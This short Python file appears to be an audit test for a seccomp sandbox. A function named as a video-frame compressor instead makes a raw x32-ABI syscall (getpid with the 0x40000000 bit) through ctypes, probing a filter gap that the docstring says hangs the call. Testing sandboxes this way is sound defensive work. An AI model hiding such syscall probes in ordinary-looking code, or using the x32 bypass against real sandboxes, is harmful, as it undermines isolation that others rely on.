"""Attack (issue 12, finding 9): a syscall through the x32 ABI (nr | 0x40000000), which
libseccomp's default kills only the calling thread for, leaving the call hanging."""
import ctypes


def compress_video_frame(frame, frame_index, config):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(0x40000000 | 39))  # x32 getpid
    raise RuntimeError("the x32 call returned %d, errno %d" % (result, ctypes.get_errno()))


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
